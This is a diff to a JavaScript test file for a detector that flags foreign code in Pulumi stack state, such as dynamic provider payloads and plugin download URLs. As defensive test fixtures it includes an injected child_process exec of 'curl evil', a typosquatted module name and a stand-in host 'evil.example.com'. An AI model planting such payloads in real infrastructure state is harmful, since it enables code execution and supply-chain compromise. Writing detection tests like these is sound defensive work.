@@ -10,11 +10,13 @@ const type = "pulumi-nodejs:dynamic/dataplatform:WhitelistedIp";
 const own = 'exports.handler=()=>require("pulumi-dataplatform/dynamic").WhitelistedIp';
 const evil = `${own};require("child_process").exec("curl evil")`;
 
-test("the text of this package, in both places, and none in plugin mode", () => {
+test("the text of this package, in both places; in plugin mode none, or what is left of dynamic mode", () => {
   const plugin = "dataplatform:index:WhitelistedIp";
   const resources = [
     { urn, type, inputs: { __provider: own }, outputs: { __provider: own } },
     { urn: `urn:pulumi:dev::p::${plugin}::a`, type: plugin, inputs: {} },
+    // As a change of the mode leaves it.
+    { urn: `urn:pulumi:dev::p::${plugin}::b`, type: plugin, inputs: {}, outputs: { __provider: own } },
   ];
   expect(foreignCode({ deployment: { resources } })).toEqual([]);
 });
@@ -34,10 +36,11 @@ describe("what would be executed and is not ours", () => {
     ["another module", one({ inputs: { __provider: own.replace("pulumi-dataplatform", "pulumi-dataplatfrom") } })],
     ["encrypted", one({ outputs: { __provider: encryptedSecret("v1:x") } })],
     ["of a type that is not ours", { urn, type: "pulumi-nodejs:dynamic:Resource", inputs: { __provider: own } }],
+    ["of another type, left in plugin mode", { urn, type: "dataplatform:index:Role", outputs: { __provider: own } }],
     ["hidden in a type of the plugin", { urn, type: "dataplatform:index:WhitelistedIp", inputs: { __provider: evil } }],
   ])("%s", (_what, resource) => {
     const found = foreignCode({ deployment: { resources: [resource] } });
-    expect(found).toEqual([expect.stringMatching(/^foreign code: __provider of /)]);
+    expect(found).toEqual([expect.stringMatching(/^foreign code: __provider of .*, and take it out, .*stack export/)]);
     // Also where a run was interrupted.
     expect(foreignCode({ deployment: { pending_operations: [{ resource }] } })).toEqual(found);
   });
@@ -47,7 +50,7 @@ describe("what would be executed and is not ours", () => {
     const inputs = { version: "0.1.0", pluginDownloadURL: "https://evil.example.com" };
     const resources = [{ urn: provider, type: "pulumi:providers:dataplatform", inputs }];
     expect(foreignCode({ deployment: { resources } })).toEqual([
-      "foreign code: pulumi:providers:dataplatform default names a server to download its plugin from",
+      expect.stringMatching(/^foreign code: pulumi:providers:dataplatform default names a server .*; find out who/),
     ]);
     expect(foreignIn(provider, undefined, { __internal: { pluginDownloadURL: "x" } })).toHaveLength(1);
     expect(foreignIn(provider, undefined, { version: "1" })).toEqual([]);
